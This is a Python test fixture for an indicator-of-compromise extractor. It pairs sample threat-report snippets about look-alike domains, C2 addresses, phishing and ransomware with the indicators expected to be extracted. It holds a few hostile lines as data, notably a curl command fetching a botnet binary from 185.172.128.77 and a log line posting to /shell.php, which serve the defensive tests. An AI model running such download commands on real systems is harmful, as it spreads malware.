"""What other hosts, owners, networks and lists of a text say of a value, with what an analyst takes from it."""

from __future__ import annotations

from typing import Final

from tests.ingest.indicators.rule_snippets import ARTICLE
from tests.ingest.indicators.snippets import MD5, SHA1, SHA256, S

OWNER_SNIPPETS: Final = (
    # --- the genuine host beside one that imitates it
    S(
        "look-alike",
        ARTICLE + "The loader asked the panel gale-post[.]net. On the server gale-post.com they sell stamps.\n",
        "domain gale-post.net",
    ),
    S(
        "look-alike",
        ARTICLE + "The loader asked the panel galleprint[.]com. On the server galeprint.com they sell paper.\n",
        "domain galleprint.com",
    ),
    S(
        "look-alike",
        "The phishing page at orlenda-login.com asks for the password that opens orlenda.com, as the server told.",
        "domain orlenda-login.com",
    ),
    S(
        "look-alike",
        "The implant beacons to mistgate.net and, if that fails, to mistgate-cdn.net.",
        "domain mistgate.net",
        "domain mistgate-cdn.net",
    ),
    S(
        "look-alike",
        "Indicators\n\ngalewire.com\ngalewire-update.com\n",
        "domain galewire.com",
        "domain galewire-update.com",
    ),
    S(
        "look-alike",
        ARTICLE + "It asked mist1[.]top first.\n\nIndicators\n\nmist2.top\n",
        "domain mist1.top",
        "domain mist2.top",
    ),
    # --- what is said of one host or mailbox holds for the others of its owner
    S(
        "owner",
        "The stealer AsyncRAT asks 45.81.39.12. Questions go to csirt@orlop-steel.com, see help.orlop-steel.com",
        "ip 45.81.39.12",
        "malware AsyncRAT",
    ),
    S(
        "owner",
        "Вредонос AsyncRAT стучится на 45.81.39.12. Вопросы: soc@zavod-ural.ru, портал help.zavod-ural.ru",
        "ip 45.81.39.12",
        "malware AsyncRAT",
    ),
    S(
        "owner",
        "The scam comes from support@gale-refunds.com and leads to pay.gale-refunds.com.",
        "email support@gale-refunds.com",
        "domain pay.gale-refunds.com",
        "domain gale-refunds.com",
    ),
    # --- networks that everybody meets
    S(
        "network",
        "The brute force came from 80.94.92.40; requests of 66.249.70.12 to /sitemap.xml are nothing.",
        "ip 80.94.92.40",
    ),
    S(
        "network",
        "rundll32.exe spoke to 194.180.48.20 (Cobalt Strike) while Teams.exe held 52.114.75.3 open.",
        "ip 194.180.48.20",
        "malware Cobalt Strike",
    ),
    S(
        "network",
        'An exploit:\n66.249.66.1 - - [21/Apr/2025:03:14:31 +0000] "GET /robots.txt HTTP/1.1" 200 68\n'
        '45.9.148.3 - - [21/Apr/2025:03:14:32 +0000] "POST /shell.php HTTP/1.1" 200 68\n',
        "ip 45.9.148.3",
    ),
    S("network", "C2 servers\n\n13.107.246.40\n45.9.20.3\n", "ip 13.107.246.40", "ip 45.9.20.3"),
    S(
        "mailbox provider",
        "The extortionist answers at grebe.orlop@consultant.com only.",
        "email grebe.orlop@consultant.com",
    ),
    # --- what an attack put where anyone may put something
    S(
        "stored",
        "The attackers hosted their phishing form at https://forms.office.com/r/8hK2mQ all week.",
        "url https://forms.office.com/r/8hK2mQ",
    ),
    S(
        "stored",
        "Report phishing with https://forms.office.com/r/8hK2mQ, please.",
    ),
    S(
        "stored",
        "The malware fetches its second stage from https://bitbucket.org/grebe77/tools/downloads/upd.exe then.",
        "url https://bitbucket.org/grebe77/tools/downloads/upd.exe",
    ),
    S("stored", "The malware is analysed in our repository https://bitbucket.org/grebe77/tools since May."),
    # --- names of files by their place
    S("list of files", ARTICLE + "- Malicious files: `x86`, `grebe.sh`, `orlop.sh`\n"),
    S("list of files", ARTICLE + "The shell scripts (`grebe.sh`, `orlop.sh`) came next.\n"),
    S(
        "end of a URL",
        "The botnet runs 2.mp next.\ncurl http://185.172.128.77/bins/2.mp\n",
        "url http://185.172.128.77/bins/2.mp",
        "ip 185.172.128.77",
    ),
    S("no registry", ARTICLE + "It calls main.cpython-39.py and grebe[.]com[.]py today.\n", "domain grebe.com.py"),
    S("archive", f"{SHA256} GaleV20[.]66-Setup[.]pcap[.]zip\n", f"hash_sha256 {SHA256}"),
    # --- a label and what it clears on one line
    S(
        "label",
        "title: RAT\nQueryName: gale-post.top\nfalsepositives: [update.orlop-suite.com]\n",
        "domain gale-post.top",
    ),
    S(
        "label",
        "The phish: http://grebe-login.top/a\nThe page was copied. Its legitimate site is:\n\nhttp://www.grebe.com/\n",
        "url http://grebe-login.top/a",
        "domain grebe-login.top",
    ),
    # --- who delivers a letter
    S(
        "delivery",
        "Received: from mail.gale-post.top (unknown [45.9.148.3])\n"
        "        by mx2.orlop-stahl.de (Postfix) with ESMTPS id 4X\n"
        "From: fraud\n",
        "domain mail.gale-post.top",
        "ip 45.9.148.3",
    ),
    # --- a crew where a text speaks of extortion
    S("crew", "05:30 chiffrement par Akira, note de rançon sur chaque poste.", "malware Akira"),
    S("crew", "Data was stolen and encrypted. Attribution: Lynx", "malware Lynx"),
    S("crew", "Data was stolen and encrypted. There was no Lynx, no note."),
    S("crew", "We hired Akira Tanaka after the ransom was paid."),
    # --- an ending of Turkish, and a name
    S(
        "ending",
        "Zararlı: hxxps://gale-post[.]top/a.apk'yi indirtiyor",
        "url https://gale-post.top/a.apk",
        "domain gale-post.top",
    ),
    S(
        "ending",
        "Payload: hxxps://gale-post[.]top/o'neil here",
        "url https://gale-post.top/o'neil",
        "domain gale-post.top",
    ),
    # --- in a note, what was stored is part of what the note tells
    S(
        "stored",
        "The lure is a PDF of the attacker's.\nIt loads https://pastebin.com/raw/7uQ2ZkXe\n",
        "url https://pastebin.com/raw/7uQ2ZkXe",
    ),
    S(
        "stored",
        "The stealer shows a picture:\nicon = https://i.imgur.com/4M34hi2.png\nIt asks 45.9.148.3\n",
        "ip 45.9.148.3",
    ),
    # --- a bracket that holds a hash alone: the sentence speaks of it
    S("bracket", f"Sample: {MD5}\nThe DLL beside it ({SHA256}) is Microsoft's own.\n", f"hash_md5 {MD5}"),
    S("bracket", f"恶意样本 {MD5}，而 {SHA256} 为厂商原版文件。", f"hash_md5 {MD5}"),
    S("magnet", f"Malware in magnet:?xt=urn:btih:{SHA1}&dn=gale, the dropper is {MD5}.", f"hash_md5 {MD5}"),
    # --- an address beside the host of an owner who attacks nobody
    S(
        "address of an owner",
        "Scan of the server (www.orlop-lab.ee, 193.40.12.9) by a botnet host 45.153.241.17. Write to noc@orlop-lab.ee",
        "ip 45.153.241.17",
    ),
    S("field", "外联 45.9.148.3:80。家族：Grebelaw", "ip 45.9.148.3", "malware Grebelaw"),
)
